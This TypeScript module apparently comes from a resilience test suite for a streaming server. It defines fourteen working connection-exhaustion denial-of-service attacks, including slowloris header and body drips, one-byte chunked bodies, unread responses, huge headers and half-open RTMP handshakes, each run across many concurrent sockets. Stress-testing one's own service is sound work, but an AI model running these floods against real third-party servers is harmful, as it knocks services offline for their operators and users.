import { connect } from "node:net";
import { ATTACKER, type HostileAttack, repeatedly, type Target } from "./attack.ts";

/** What one TCP connection does. Without `leavesAfterMs` it stays until the server closes it. */
type Connection = {
  /** Concurrent connections; one that is closed is opened again. */
  lanes: number;
  sends(target: Target, n: number): string | Buffer;
  /** Sent again and again afterwards. */
  drips?: { text: string; everyMs: number };
  isRead?: boolean;
  leavesAfterMs?: number;
  port?: (target: Target) => number;
};

/** Resolves when the connection is closed. */
function connection(target: Target, how: Connection, n: number, signal: AbortSignal): Promise<void> {
  const { hostname, port } = new URL(target.base);
  const { drips, leavesAfterMs, isRead = true } = how;
  return new Promise((resolve) => {
    const timers: NodeJS.Timeout[] = [];
    const to = { port: how.port?.(target) ?? Number(port), host: hostname, localAddress: ATTACKER };
    const socket = connect(to, () => {
      socket.write(how.sends(target, n));
      if (drips) timers.push(setInterval(() => socket.write(drips.text), drips.everyMs));
      if (leavesAfterMs !== undefined) timers.push(setTimeout(leave, leavesAfterMs));
    });
    const leave = () => socket.destroy();
    if (isRead) socket.resume();
    else socket.pause();
    signal.addEventListener("abort", leave, { once: true });
    socket.on("error", () => {});
    socket.on("close", () => {
      for (const timer of timers) clearInterval(timer);
      signal.removeEventListener("abort", leave);
      resolve();
    });
  });
}

const head = (line: string, ...fields: string[]) => [`${line} HTTP/1.1`, "host: x", ...fields, "", ""].join("\r\n");
const begun = "GET /api/v1/assets HTTP/1.1\r\nhost: x\r\n";
const json = ["content-type: application/json"];
const beacon = (length: number) => head("POST /api/v1/playback_events", ...json, `content-length: ${length}`);
/** RTMP: version 3, and the first 1536 bytes of the handshake. */
const rtmp = (bytes: number) => Buffer.concat([Buffer.from([3]), Buffer.alloc(bytes)]);

const CONNECTIONS: Record<string, Connection> = {
  "slow headers": { lanes: 500, sends: () => begun, drips: { text: "x: y\r\n", everyMs: 500 } },
  "no headers": { lanes: 500, sends: () => "" },
  "connections that stay": { lanes: 3000, sends: () => head("GET /healthz") },
  "slow bodies": { lanes: 500, sends: () => beacon(100_000), drips: { text: " ", everyMs: 500 } },
  "bodies that stop": { lanes: 500, sends: () => `${beacon(100_000)}{` },
  "chunks of one byte": {
    lanes: 200,
    sends: () => head("POST /api/v1/playback_events", ...json, "transfer-encoding: chunked"),
    drips: { text: "1\r\n \r\n".repeat(200), everyMs: 20 },
  },
  "responses that are never read": {
    lanes: 200,
    sends: () => head("GET /api/v1/openapi.json").repeat(16),
    isRead: false,
  },
  "connections that open and close": { lanes: 64, sends: () => "", leavesAfterMs: 0 },
  "requests that are left at once": {
    lanes: 64,
    sends: ({ assetId }) => head(`GET /media/${assetId}/master.m3u8`),
    leavesAfterMs: 1,
  },
  "huge headers": { lanes: 32, sends: () => head("GET /healthz", `x: ${"y".repeat(64_000)}`), leavesAfterMs: 500 },
  "many headers": {
    lanes: 32,
    sends: () => head("GET /healthz", ...Array.from({ length: 3000 }, (_, n) => `x${n}: y`)),
    leavesAfterMs: 500,
  },
  "upgrade attempts": {
    lanes: 64,
    sends: (_, n) =>
      head(
        "GET /api/v1/assets",
        "connection: upgrade",
        `upgrade: ${n % 2 ? "websocket" : "h2c"}`,
        "sec-websocket-version: 13",
      ),
    leavesAfterMs: 200,
  },
  "half-open RTMP": { lanes: 1000, sends: () => rtmp(1000), port: ({ rtmpPort }) => rtmpPort },
  "RTMP byte by byte": {
    lanes: 500,
    sends: () => rtmp(0),
    drips: { text: "\0", everyMs: 200 },
    port: ({ rtmpPort }) => rtmpPort,
  },
};

export const connections: HostileAttack[] = Object.entries(CONNECTIONS).map(([name, how]) => ({
  name: `${how.lanes} lanes of ${name}`,
  run: (target, signal) => repeatedly(signal, how.lanes, (n) => connection(target, how, n, signal)),
}));
